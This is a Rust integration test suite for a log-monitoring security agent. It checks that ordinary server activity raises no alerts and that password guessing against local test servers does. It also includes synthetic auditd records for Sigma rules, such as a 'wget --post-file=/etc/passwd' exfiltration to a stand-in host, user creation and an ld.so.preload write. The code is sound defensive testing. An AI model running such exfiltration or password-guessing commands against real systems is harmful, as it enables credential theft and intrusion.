//! Logs of real servers: what is done to them becomes the right alerts, and an hour of ordinary use
//! of such a machine raises none.

use std::collections::BTreeSet;
use std::fs::File;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::Value;
use soc_tests::program::installed;
use soc_tests::servers::{self, Server};
use soc_tests::{Api, Stage, data_file, skip, until};

const PATIENCE: Duration = Duration::from_secs(60);

/// Follows the stage's own logs and nothing else; whichever is there first, the agent or a line.
fn config(stage: &Stage, more: &str) -> String {
    let logs = stage.path("logs");
    let file =
        |name: &str| format!("[[logfile.files]]\npath = \"{}\"\n", logs.join(name).display());
    let names = [
        "auth.log",
        "syslog",
        "maillog",
        "dpkg.log",
        "nginx/access.log",
        "nginx/error.log",
        "apache2/access.log",
        "apache2/error.log",
        "postgresql/*.log",
    ];
    let files: String = names.iter().map(|name| file(name)).collect();
    format!(
        "[antivirus]\nenabled = false\n[port]\nenabled = false\n[journald]\nenabled = \"off\"\n\
         [logfile]\nfrom_beginning = true\n{more}\n{files}"
    )
}

async fn started(more: &str) -> (Stage, Api) {
    let mut stage = Stage::new().unwrap();
    stage.write("agent.toml", &config(&stage, more)).unwrap();
    stage.start_collector().await.unwrap();
    stage.enrol_agent().unwrap();
    stage.start_agent().unwrap();
    let api = stage.administrator().await.unwrap();
    until("the agent reports", PATIENCE, || async {
        let machines = api.get("/api/v1/machines").await.ok()?;
        (machines["total"] == 1).then_some(())
    })
    .await;
    (stage, api)
}

fn append(path: &Path, text: &str) {
    let mut file = File::options().create(true).append(true).open(path).unwrap();
    file.write_all(text.as_bytes()).unwrap();
}

/// One request; the answer's first line.
fn request(server: &Server, path: &str, header: &str) -> String {
    let mut stream = TcpStream::connect(("127.0.0.1", server.port)).unwrap();
    let text = format!("GET {path} HTTP/1.1\r\nHost: portal\r\nConnection: close\r\n{header}\r\n");
    stream.write_all(text.as_bytes()).unwrap();
    let mut answer = String::new();
    let _ = stream.read_to_string(&mut answer);
    answer.lines().next().unwrap_or_default().to_owned()
}

/// Ten wrong passwords over SMTP.
fn guess_mail(server: &Server) {
    let stream = TcpStream::connect(("127.0.0.1", server.port)).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let mut answers = BufReader::new(stream.try_clone().unwrap()).lines();
    let mut stream = stream;
    let mut say = |text: &str| {
        stream.write_all(format!("{text}\r\n").as_bytes()).unwrap();
        while let Some(Ok(line)) = answers.next() {
            if line.as_bytes().get(3) != Some(&b'-') {
                return;
            }
        }
    };
    say("EHLO client.example");
    for _ in 0..12 {
        // `\0bob\0wrong`
        say("AUTH PLAIN AGJvYgB3cm9uZw==");
    }
}

fn guess_database(server: &Server) {
    for _ in 0..11 {
        let _ = Command::new("psql")
            .args([
                "-h",
                "127.0.0.1",
                "-p",
                &server.port.to_string(),
                "-U",
                "postgres",
                "-c",
                "select 1",
            ])
            .env("PGPASSWORD", "wrong")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
    }
}

fn guess_ssh(server: &Server) {
    for _ in 0..6 {
        let _ = Command::new("sshpass")
            .args(["-p", "wrong", "ssh", "-p", &server.port.to_string()])
            .args(["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"])
            .args(["-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1"])
            .args(["root@127.0.0.1", "true"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
    }
}

/// A package upgrade, services that start again, sessions, timers, and log rotation.
fn ordinary_hour(stage: &Stage) {
    let logs = stage.path("logs");
    let now = jiff::Timestamp::now();
    let local =
        now.to_zoned(jiff::tz::TimeZone::system()).strftime("%Y-%m-%d %H:%M:%S").to_string();
    for (step, name) in ["libc6", "openssl", "nginx"].iter().enumerate() {
        let line = format!(
            "{local} upgrade {name}:amd64 1.{step} 1.{}\n{local} status installed {name}:amd64 1.{}\n",
            step + 1,
            step + 1
        );
        append(&logs.join("dpkg.log"), &line);
    }
    for minute in 0..60 {
        let pid = 1000 + minute;
        append(
            &logs.join("auth.log"),
            &format!(
                "{now} srv CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)\n\
                 {now} srv CRON[{pid}]: pam_unix(cron:session): session closed for user root\n\
                 {now} srv sudo:    admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=/usr/bin/apt upgrade\n\
                 {now} srv sshd[{pid}]: Accepted publickey for admin from 192.0.2.10 port 50022 ssh2: ED25519 SHA256:x\n"
            ),
        );
        append(
            &logs.join("syslog"),
            &format!(
                "{now} srv systemd[1]: Stopping nginx.service - A high performance web server...\n\
                 {now} srv systemd[1]: Started nginx.service - A high performance web server.\n\
                 {now} srv CRON[{pid}]: (root) CMD (test -x /usr/sbin/anacron || run-parts /etc/cron.hourly)\n"
            ),
        );
        if minute % 20 == 19 {
            for name in ["auth.log", "syslog"] {
                std::fs::rename(logs.join(name), logs.join(format!("{name}.{minute}"))).unwrap();
                append(&logs.join(name), "");
            }
        }
    }
    // One who mistypes once, and gets in.
    append(
        &logs.join("auth.log"),
        &format!(
            "{now} srv sshd[9]: Failed password for admin from 192.0.2.10 port 50023 ssh2\n\
             {now} srv sshd[9]: Accepted password for admin from 192.0.2.10 port 50023 ssh2\n"
        ),
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn guessing_at_real_servers_is_told_and_ordinary_use_is_not() {
    for name in ["sshpass", "psql", "setpriv"] {
        if installed(name).is_none() {
            return skip("real servers", &format!("{name} is not installed"));
        }
    }
    let (stage, api) = started("").await;
    let logs = stage.path("logs");
    let run = |name: &str| stage.path(name);
    let servers = [
        servers::nginx(&run("nginx"), &logs.join("nginx")),
        servers::apache(&run("apache"), &logs.join("apache2")),
        servers::postfix(&run("postfix"), &logs.join("maillog")),
        servers::postgresql(&run("postgresql"), &logs.join("postgresql")),
        servers::sshd(&run("sshd"), &logs.join("auth.log")),
    ];
    let servers: Result<Vec<Server>, String> = servers.into_iter().collect();
    let servers = match servers {
        Ok(servers) => servers,
        Err(why) => return skip("real servers", &why),
    };
    let [nginx, apache, postfix, postgresql, sshd] = servers.as_slice() else { unreachable!() };

    ordinary_hour(&stage);
    for _ in 0..1000 {
        assert!(request(nginx, "/", "").contains("200"));
        assert!(request(apache, "/", "").contains("200"));
    }
    // All of it has been read when the last of it has come.
    append(
        &logs.join("syslog"),
        &format!("{} srv app[1]: that was the hour\n", jiff::Timestamp::now()),
    );
    until_seen(&api, "that was the hour").await;
    until_seen(&api, "GET / HTTP/1.1").await;
    assert_eq!(api.alert_titles().await.unwrap(), BTreeSet::new(), "{}", stage.logs());

    for _ in 0..21 {
        for server in [nginx, apache] {
            let wrong = "Authorization: Basic Ym9iOndyb25n\r\n";
            assert!(request(server, "/secret", wrong).contains("401"));
        }
    }
    guess_mail(postfix);
    guess_database(postgresql);
    guess_ssh(sshd);
    let expected = [
        "Password guessing against a database",
        "Password guessing against a web site",
        "Password guessing against mailboxes",
        "Password guessing over ssh",
    ];
    let expected: BTreeSet<String> = expected.map(str::to_owned).into();
    until("every guessing is an alert, and nothing else is", PATIENCE, || async {
        let found = api.alert_titles().await.unwrap();
        assert!(found.is_subset(&expected), "{found:?}");
        (found == expected).then_some(())
    })
    .await;
    let report = std::fs::read_to_string(stage.path("agent/status.json")).unwrap();
    let report: Value = serde_json::from_str(&report).unwrap();
    for (log, count) in report["logs"].as_object().unwrap() {
        assert_eq!(count["unparsed"], 0, "{log}: {report:#}");
    }
}

/// Waits until a line with this text is among the last events.
async fn until_seen(api: &Api, text: &str) {
    let machines = api.get("/api/v1/machines").await.unwrap();
    let machine = machines["items"][0]["id"].as_str().unwrap().to_owned();
    until(text, PATIENCE, || async {
        let path = format!("/api/v1/machines/{machine}/events?kind=log&limit=1000");
        let page = api.get(&path).await.ok()?;
        let has = |event: &Value| event["raw"].as_str().is_some_and(|raw| raw.contains(text));
        page["items"].as_array()?.iter().any(has).then_some(())
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn lines_that_stay_on_the_machine_come_when_they_are_asked_for() {
    let (mut stage, api) = started("send = \"findings\"").await;
    let log = stage.path("logs/syslog");
    let begin = jiff::Timestamp::now();
    for number in 0..50 {
        append(&log, &format!("{} srv app[1]: quiet line {number}\n", jiff::Timestamp::now()));
    }
    append(&log, &format!("<27>{} srv app[1]: it broke\n", jiff::Timestamp::now()));
    until_seen(&api, "it broke").await;
    let machines = api.get("/api/v1/machines").await.unwrap();
    let machine = machines["items"][0]["id"].as_str().unwrap();
    let path = format!("/api/v1/machines/{machine}/events?kind=log&limit=1000");
    let events = api.get(&path).await.unwrap();
    assert_eq!(events["items"].as_array().unwrap().len(), 1, "{events:#}");

    let ask = format!(
        "[[logfile.asks]]\nid = \"case-7\"\nsource = \"{}\"\nfrom = \"{begin}\"\nto = \"{}\"\n",
        log.display(),
        jiff::Timestamp::now()
    );
    stage.agent.as_mut().unwrap().kill();
    let text = config(&stage, "send = \"findings\"") + &ask;
    stage.write("agent.toml", &text).unwrap();
    // Killed while it answers: every line comes once all the same.
    for _ in 0..3 {
        stage.start_agent().unwrap();
        tokio::time::sleep(Duration::from_millis(300)).await;
        stage.agent.as_mut().unwrap().kill();
    }
    stage.start_agent().unwrap();
    let answer = until("the answer is whole", PATIENCE, || async {
        let events = api.get(&path).await.ok()?;
        let items = events["items"].as_array()?.clone();
        // States travel before lines.
        let is_told = items.iter().any(|event| event["kind"] == "log.answered");
        (is_told && quiet(&items).len() >= 50).then_some(items)
    })
    .await;
    let quiet = quiet(&answer);
    assert_eq!(quiet.len(), 50, "{answer:#?}");
    assert_eq!(quiet.into_iter().collect::<BTreeSet<_>>().len(), 50);
}

fn quiet(events: &[Value]) -> Vec<&str> {
    let lines = events.iter().filter_map(|event| event["raw"].as_str());
    lines.filter(|raw| raw.contains("quiet line")).collect()
}

/// Records of one event as auditd writes them.
fn audit(serial: u32, records: &[(&str, &str)]) -> String {
    let time = jiff::Timestamp::now().as_second();
    let line = |(kind, rest): &(&str, &str)| {
        format!("type={kind} msg=audit({time}.790:{serial}): {rest}\n")
    };
    records.iter().map(line).collect()
}

/// A program that the web server's user started.
fn program(serial: u32, exe: &str, arguments: &str) -> String {
    let call = format!(
        "arch=c000003e syscall=59 success=yes exit=0 a0=56000b67eca0 a1=56000b67ed60 a2=56000b67f138 \
         a3=8 items=1 ppid=32285 pid=32288 auid=1000 uid=33 gid=0 euid=33 tty=(none) ses=3 comm=\"x\" \
         exe=\"{exe}\" key=(null)"
    );
    let path = format!("item=0 name=\"{exe}\" nametype=NORMAL");
    audit(
        serial,
        &[
            ("SYSCALL", &call),
            ("EXECVE", arguments),
            ("CWD", "cwd=\"/var/www\""),
            ("PATH", &path),
            ("PROCTITLE", "proctitle=\"x\""),
        ],
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn sigmas_rules_match_assembled_audit_events() {
    let Some(archive) = data_file("sigma-rules.tar.zst") else {
        return skip("Sigma's auditd rules", "the public rules are not beside this checkout");
    };
    let mut stage = Stage::new().unwrap();
    let rules = stage.path("collector/rules");
    std::fs::create_dir_all(&rules).unwrap();
    let mut unpack = Command::new("tar");
    unpack.args(["--zstd", "-xf"]).arg(&archive).arg("-C").arg(&rules).arg("rules/linux");
    assert!(unpack.status().unwrap().success());
    let log = stage.path("logs/audit.log");
    let files = format!("[[logfile.files]]\npath = \"{}\"\n", log.display());
    stage.write("agent.toml", &(config(&stage, "") + &files)).unwrap();
    stage.start_collector().await.unwrap();
    stage.enrol_agent().unwrap();
    stage.start_agent().unwrap();
    let api = stage.administrator().await.unwrap();
    append(
        &log,
        &[
            program(1, "/usr/bin/wget", "argc=3 a0=\"wget\" a1=\"--post-file=/etc/passwd\" a2=\"http://192.0.2.1/\""),
            program(2, "/usr/sbin/useradd", "argc=2 a0=\"useradd\" a1=\"eve\""),
            program(3, "/usr/bin/crontab", "argc=2 a0=\"crontab\" a1=\"/tmp/x\""),
            audit(
                4,
                &[
                    ("SYSCALL", "arch=c000003e syscall=257 success=yes a0=ffffff9c ppid=1 pid=2 exe=\"/usr/bin/vi\" key=(null)"),
                    ("CWD", "cwd=\"/\""),
                    ("PATH", "item=0 name=\"/etc/\" nametype=PARENT"),
                    ("PATH", "item=1 name=\"/etc/ld.so.preload\" nametype=CREATE"),
                    ("PROCTITLE", "proctitle=\"vi\""),
                ],
            ),
        ]
        .concat(),
    );
    let expected = [
        // EXECVE's arguments, though SYSCALL has an a0, too.
        "Data Exfiltration with Wget",
        // SYSCALL by its name, which this log only has as a number.
        "Webshell Remote Command Execution",
        "Creation Of An User Account",
        // PATH.
        "Modification of ld.so.preload",
        // process_creation.
        "Scheduled Cron Task/Job - Linux",
    ];
    until("each kind of rule is an alert", PATIENCE, || async {
        let found = api.alert_titles().await.unwrap();
        expected.iter().all(|title| found.contains(*title)).then_some(())
    })
    .await;
}
